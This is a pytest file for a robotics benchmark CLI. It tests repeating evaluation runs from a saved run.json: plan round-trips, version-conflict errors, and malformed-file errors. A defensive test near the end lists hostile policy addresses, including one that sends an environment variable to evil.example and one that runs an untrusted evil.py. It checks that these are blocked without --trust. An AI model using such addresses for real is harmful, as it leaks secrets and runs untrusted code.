"""A run is repeated from its ``run.json``: the same bits, or a clear line that says why that cannot be."""

from __future__ import annotations

import json
import shutil

import pytest
from tests.resealing import rewrite

from betterbench.cli.main import main
from betterbench.errors import RecordError, RunConflictError, UnknownNameError
from betterbench.evaluation import evaluate, make_plan
from betterbench.evaluation.planning.repeat import repeated_plan
from betterbench.evaluation.planning.trust import risks_of
from betterbench.records import RunFolder

pytestmark = pytest.mark.physics


@pytest.fixture
def changed(uninterrupted, tmp_path):
    """Returns a function that writes a copy of the run's description with a change, and returns the file."""

    def write(change):
        (tmp_path / "other").mkdir(exist_ok=True)
        shutil.copy(uninterrupted.path / "run.json", tmp_path / "other" / "run.json")
        rewrite(tmp_path / "other" / "run.json", lambda form: change(form["plan"]))
        return tmp_path / "other" / "run.json"

    return write


@pytest.mark.parametrize("given", ["run.json", ""])
def test_the_plan_of_a_run_comes_back(uninterrupted, tiny_plan, given):
    assert repeated_plan(uninterrupted.path / given) == tiny_plan()


@pytest.mark.parametrize(
    "options",
    [
        {"trials": 2, "seed": 3, "observation": "official", "quality": "high"},
        {"tasks": ["office_drawer"], "trials": 1, "action_space": "joint_delta", "observation": "state_only"},
        {"variations": ["fast_food/T1", "L2"], "trials": 1},
        {"tasks": ["fruit_basket"], "trials": 1, "robot": "so101", "action_space": "so101_normalized"},
    ],
    ids=["all tasks", "one task", "some variations", "another robot"],
)
def test_every_plan_comes_back(tmp_path, options):
    plan = make_plan("openpi://host:8000?preset=openpi_libero&horizon=5", **options)
    run = RunFolder.start(tmp_path / "run", plan.to_json())
    assert repeated_plan(run.path) == plan
    assert repeated_plan(run.path).to_json() == plan.to_json()


def test_a_plan_of_an_earlier_version_without_a_robot_is_of_the_panda(changed, tiny_plan):
    assert repeated_plan(changed(lambda plan: plan.pop("robot"))) == tiny_plan()


@pytest.mark.usefixtures("short_trials")
def test_better_eval_from_repeats_a_run_bit_for_bit(tiny_plan, tmp_path, run_content, capsys):
    first = evaluate(tiny_plan(trials=2), tmp_path / "first")
    out = tmp_path / "again"
    source = first.path / "run.json"
    arguments = ["eval", "--from", str(source), "--out", str(out), "--workers", "1", "--uncertified", "--json"]
    assert main(arguments) == 0
    said = capsys.readouterr()
    assert json.loads(said.out)["variations"]["n"] == 2
    assert "" not in said.err.splitlines(), "the log of a batch job has no empty lines where a bar would be"
    assert "policy:" not in said.err, "a policy of ours is nothing to wait for"
    assert run_content(out) == run_content(first.path)
    assert json.loads((out / "run.json").read_bytes())["plan"] == first.plan


def test_another_policy_can_run_the_same_trials(uninterrupted, tiny_plan):
    plan = repeated_plan(uninterrupted.path, policy="noop")
    assert plan.policy == "noop"
    assert plan.trials == tiny_plan().trials


OTHER = {
    "mujoco": (lambda p: p["engine"].update(mujoco="3.16.0"), 'engine.mujoco was "3.16.0" there and is "3.17'),
    "suite": (lambda p: p.update(suite_version="0.9"), 'suite_version was "0.9" there'),
    "task": (lambda p: p["task_versions"].update(morning_coffee=99), "task_versions.morning_coffee was 99 there"),
    "rate": (lambda p: p.update(control_rate_hz=15.0), "control_rate_hz was 15.0 there and is 20.0 here"),
    "preset": (lambda p: p["quality"].update(shadows=True), "quality.shadows was true there and is false here"),
    "lost": (lambda p: p.pop("suite_version"), "suite_version was null there"),
}


@pytest.mark.parametrize(("change", "text"), OTHER.values(), ids=OTHER.keys())
def test_other_versions_are_refused_unless_allowed(changed, tiny_plan, change, text):
    file = changed(change)
    with pytest.raises(RunConflictError) as caught:
        repeated_plan(file)
    assert text in str(caught.value)
    assert "--allow-other-versions" in str(caught.value)
    assert repeated_plan(file, allow_other_versions=True) == tiny_plan()


def test_all_differences_are_named_at_once(changed):
    def both(plan):
        plan["engine"]["mujoco"] = "3.16.0"
        plan["task_versions"]["morning_coffee"] = 99

    with pytest.raises(RunConflictError, match=r"engine\.mujoco was .*; task_versions\.morning_coffee was"):
        repeated_plan(changed(both))


def test_another_package_version_alone_changes_no_result(changed, tiny_plan):
    assert repeated_plan(changed(lambda p: p.update(package_version="0.0.1"))) == tiny_plan()


BROKEN = {
    "no trials": (lambda p: p.pop("trials"), RecordError, "plan: trials: is missing"),
    "trial": (lambda p: p["trials"][0].pop("seed"), RecordError, r"plan: trials\[0\].seed: is missing"),
    "seed": (
        lambda p: p["trials"][1].update(seed=-1),
        RecordError,
        r"trials\[1\].seed: .*greater than or equal to 0, not -1",
    ),
    "kind": (lambda p: p["trials"][1].update(axis=3), RecordError, r"plan: trials\[1\].axis: .*valid string, not 3"),
    "twice": (
        lambda p: p["trials"].append(p["trials"][0]),
        RecordError,
        r"plan: trials\[4\]: this trial is planned twice",
    ),
    "policy": (lambda p: p.pop("policy"), RecordError, "plan: policy: is missing"),
    "task": (lambda p: p["trials"][0].update(task="morning_cofee"), UnknownNameError, "Did you mean 'morning_coffee'"),
    "observation": (lambda p: p.update(observation="default"), RecordError, "plan: observation: is not a JSON object"),
}


@pytest.mark.parametrize(("change", "error", "text"), BROKEN.values(), ids=BROKEN.keys())
def test_a_broken_file_is_named(changed, change, error, text):
    with pytest.raises(error, match=text):
        repeated_plan(changed(change))


@pytest.mark.parametrize(
    ("arguments", "text"),
    [
        (("--tasks", "fast_food"), "--tasks: --from repeats a run with its own options"),
        (("--trials", "3"), "--trials: --from repeats"),
        (("--quality", "high"), "--quality: --from repeats"),
    ],
)
def test_what_the_run_has_answered_is_not_asked_again(uninterrupted, tmp_path, capsys, arguments, text):
    assert main(["eval", "--from", str(uninterrupted.path), *arguments, "--out", str(tmp_path / "run")]) == 2
    assert text in capsys.readouterr().err.replace("\n", " ")
    assert not (tmp_path / "run").exists()


def test_a_policy_or_a_run_has_to_be_named(capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert main(["eval", "--tasks", "fast_food"]) == 2
    assert "--policy: no policy is given" in capsys.readouterr().err.replace("\n", " ")
    assert not list(tmp_path.iterdir())


def test_a_policy_that_declares_something_else_is_no_repetition(uninterrupted, tmp_path, capsys):
    source = tmp_path / "source"
    shutil.copytree(uninterrupted.path, source)
    other = {"checkpoint": "before"}
    rewrite(source / "run.json", lambda form: form["context"]["policy"].update(metadata=other))
    arguments = ["eval", "--from", str(source), "--out", str(tmp_path / "run"), "--uncertified"]
    assert main(arguments) == 2
    text = capsys.readouterr().err.replace("\n", " ")
    assert "is not the policy of this run" in text
    assert "policy.metadata.checkpoint" in text
    assert not (tmp_path / "run").exists()


def named(uninterrupted, tmp_path, address):
    """A copy of a run whose run.json names another policy."""
    source = tmp_path / "source"
    shutil.copytree(uninterrupted.path, source)
    rewrite(source / "run.json", lambda form: form["plan"].update(policy=address))
    return source


RISKS = {
    "python:{folder}/evil.py:Evil": "runs the Python code of {folder}/evil.py:Evil",
    "openpi://evil.example:80?api_key_env=HOME": "sends the environment variable HOME to evil.example:80",
    "gr00t://127.0.0.1:1?patience=0&api_token%5Fenv=HOME": "sends the environment variable HOME to 127.0.0.1:1",
    "lerobot:someone/else": "loads the checkpoint someone/else, which can run code",
}


@pytest.mark.parametrize(("address", "text"), RISKS.items())
def test_what_a_file_names_runs_no_code_and_sends_no_secret_without_a_yes(
    uninterrupted, tmp_path, capsys, address, text
):
    mark = tmp_path / "was here"
    (tmp_path / "evil.py").write_text(f"open({str(mark)!r}, 'w').close()", encoding="utf-8")
    source = named(uninterrupted, tmp_path, address.format(folder=tmp_path))
    for where in (source, source / "run.json"):
        assert main(["eval", "--from", str(where), "--out", str(tmp_path / "run"), "--uncertified"]) == 2
        said = capsys.readouterr().err.replace("\n", "")
        assert text.format(folder=tmp_path).replace(" ", "") in said.replace(" ", "")
        assert "Use --trust if" in said
    assert not mark.exists()
    assert not (tmp_path / "run").exists()
    assert repeated_plan(source, policy="noop").policy == "noop"


def test_with_a_yes_the_named_policy_is_shown_and_made(uninterrupted, tmp_path, capsys):
    mark = tmp_path / "was here"
    (tmp_path / "own.py").write_text(f"open({str(mark)!r}, 'w').close()", encoding="utf-8")
    source = named(uninterrupted, tmp_path, f"python:{tmp_path}/own.py:Missing")
    arguments = ["eval", "--from", str(source), "--out", str(tmp_path / "run"), "--uncertified", "--workers", "1"]
    assert main([*arguments, "--trust"]) == 2
    said = capsys.readouterr().err.replace("\n", "")
    assert f"Policy named in {source}: python:{tmp_path}/own.py:Missing" in said
    assert "has no 'Missing'" in said
    assert mark.exists()


@pytest.mark.parametrize(
    "address", ["expert", "noop", "zoo:lexical?strength=0.5", "replay:runs/a", "openpi://h:1?size=9"]
)
def test_what_runs_nothing_and_sends_nothing_needs_no_yes(address):
    assert risks_of(address) == ()
